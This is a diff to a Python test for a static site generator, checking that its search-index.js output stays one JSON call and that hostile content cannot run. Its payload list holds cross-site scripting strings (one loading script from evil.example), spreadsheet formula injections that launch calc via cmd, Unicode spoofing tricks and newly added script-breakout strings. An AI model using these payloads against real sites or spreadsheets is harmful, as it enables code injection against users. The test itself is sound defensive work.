@@ -34,6 +34,7 @@ from generator.render import render_markdown
 from generator.validate import validate
 
 from .conftest import CONTENT, MINIMAL, ROOT
+from .test_site import INDEX_SCRIPT
 
 PAYLOADS = [
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>",
@@ -55,6 +56,7 @@ PAYLOADS = [
     "\u202egnp.exe", "\u200b<script>alert(1)</script>", "ѕсrірt", "＜script＞alert(1)＜/script＞",
     "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
     "</script><!--", "<x onclick=alert(1)>click", "\"onmouseover=\"alert(1)", "' onmouseover='alert(1)",
+    '"]]});alert(1);//', "\\\"});alert(1)//", "\u2028alert(1)\u2029",  # out of a search index's data into its script
 ]
 
 
@@ -137,8 +139,17 @@ def _hostile_content(tmp_path: Path) -> Path:
 
 def test_no_payload_in_any_text_field_or_markdown_can_run(tmp_path: Path) -> None:
     content = _hostile_content(tmp_path)
-    result = build(content, tmp_path / "site", search=False, packages_out=tmp_path / "datapackages")
+    result = build(content, tmp_path / "site", packages_out=tmp_path / "datapackages")
     assert result.built, [p.as_text("en") for p in result.corpus.problems if p.severity == "error"]
+    # A search index is one call with one JSON argument, whatever its texts hold: data, never code.
+    indexes = sorted((tmp_path / "site").rglob("search-index.js"))
+    assert len(indexes) == 4  # the program's and the comparisons', in each language
+    for index in indexes:
+        text = index.read_text(encoding="utf-8")
+        assert text.startswith(INDEX_SCRIPT) and text.endswith(");\n") and text.count("\n") == 1, index
+        assert "\u2028" not in text and "\u2029" not in text, index
+        json.loads(text[len(INDEX_SCRIPT):-3])
+    assert "});alert(1)" in (tmp_path / "site" / "uk" / "testova-2025-2027" / "search-index.js").read_text(encoding="utf-8")
     pages = sorted((tmp_path / "site").rglob("*.html"))
     assert len(pages) > 20
     for page in pages:
